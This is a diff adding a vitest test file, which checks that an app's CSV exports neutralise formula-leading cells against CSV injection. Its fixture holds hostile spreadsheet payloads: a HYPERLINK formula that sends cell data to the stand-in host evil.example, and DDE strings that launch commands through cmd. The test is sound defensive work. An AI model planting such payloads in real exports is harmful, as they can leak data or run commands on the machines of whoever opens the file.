@@ -1,0 +1,113 @@
+/**
+ * Exported per-item results never carry a formula (OWASP "CSV injection"):
+ * values that came from a file or from the service and that a spreadsheet
+ * would run (=, +, -, @, tab or carriage return first) are written with a
+ * leading single quote, through `foyer outbox export` and through the admin's
+ * export operation alike. No service is reached: the outbox row is written
+ * into the mirror directly, as a delivery would leave it.
+ */
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createAppCore } from '../../../electron/core/app/core.ts';
+import { createSession } from '../../../electron/core/app/session.ts';
+import { main } from '../../../electron/core/cli/main.ts';
+import { createConfigStore } from '../../../electron/core/config/config.ts';
+import { createFileTokenStore } from '../../../electron/core/config/token-store.ts';
+import { openMirror } from '../../../electron/core/db/mirror.ts';
+import { openRuntime } from '../../../electron/core/runtime.ts';
+
+const HOSTILE = {
+  sourceId: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  email: "+cmd|' /C calc'!A0",
+  message: "@SUM(1+1)*cmd|' /C calc'!A0",
+  group: "-2+3+cmd|' /C calc'!A0",
+  tab: '\t=1+1',
+  cr: '\r=1+1',
+};
+
+let dir: string;
+let outboxId: number;
+
+beforeAll(() => {
+  dir = mkdtempSync(join(tmpdir(), 'foyer-export-'));
+  const config = createConfigStore(dir);
+  // A service that is never reached: nothing here sends anything.
+  config.write({ ...config.read(), baseUrl: 'http://127.0.0.1:9/api/v2' });
+  createFileTokenStore(dir).set('export-test-token');
+  const mirror = openMirror(join(dir, 'mirror.db'));
+  const now = '2026-01-01T00:00:00.000Z';
+  outboxId = mirror.outbox.add({
+    kind: 'identities',
+    target: 'identities',
+    payload: {
+      permanentIdentities: [
+        { sourceId: HOSTILE.sourceId, email: 'a@example.test' },
+        { sourceId: HOSTILE.tab, email: HOSTILE.email },
+        { sourceId: HOSTILE.cr, email: 'c@example.test' },
+        { sourceId: 'plain', email: 'd@example.test' },
+      ],
+    },
+    label: 'identities from hostile.csv',
+    itemLines: [2, 3, 4, 5],
+    now,
+  });
+  mirror.outbox.markDelivered.run({
+    id: outboxId,
+    now,
+    result: JSON.stringify({
+      permanentIdentities: [
+        { status: 'INVALID', message: HOSTILE.message, unknownAccessProfiles: [] },
+        {
+          status: 'SUCCESS',
+          unknownAccessProfiles: [{ accessProfileGroupSourceId: HOSTILE.group, sourceId: 'x' }],
+        },
+        { status: 'SUCCESS' },
+        { status: 'SUCCESS', message: 'fine - nothing to do' },
+      ],
+    }),
+  });
+  mirror.close();
+});
+afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+/** The CSV's records, and that no cell a spreadsheet would evaluate remains. */
+function expectNeutral(csv: string) {
+  const records = parse(csv, { columns: true }) as Record<string, string>[];
+  for (const record of records)
+    for (const cell of Object.values(record)) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+  expect(records.map((r) => [r.sourceId, r.email, r.message, r.unknownAccessProfiles])).toEqual([
+    [`'${HOSTILE.sourceId}`, 'a@example.test', `'${HOSTILE.message}`, ''],
+    [`'${HOSTILE.tab}`, `'${HOSTILE.email}`, '', `'${HOSTILE.group}:x`],
+    [`'${HOSTILE.cr}`, 'c@example.test', '', ''],
+    // Nothing else changes: a dash inside a value is left alone.
+    ['plain', 'd@example.test', 'fine - nothing to do', ''],
+  ]);
+  expect(records.map((r) => r.line)).toEqual(['2', '3', '4', '5']);
+}
+
+describe('exported results', () => {
+  it('foyer outbox export neutralises formula-leading cells', async () => {
+    let text = '';
+    const out = { isTTY: false, write: (t: string) => void (text += t) };
+    expect(await main(['outbox', 'export', String(outboxId), '--data-dir', dir], out, out)).toBe(0);
+    expectNeutral(text);
+  });
+
+  it("the admin's export operation neutralises them the same way", async () => {
+    const runtime = await openRuntime({ dataDir: dir });
+    try {
+      const core = createAppCore(runtime);
+      const answer = (await core.call(createSession('admin-1', 'admin'), 'outbox.exportCsv', { id: outboxId })) as {
+        fileName: string;
+        csv: string;
+      };
+      expect(answer.fileName).toBe(`foyer-results-${outboxId}.csv`);
+      expectNeutral(answer.csv);
+    } finally {
+      await runtime.close();
+    }
+  });
+});
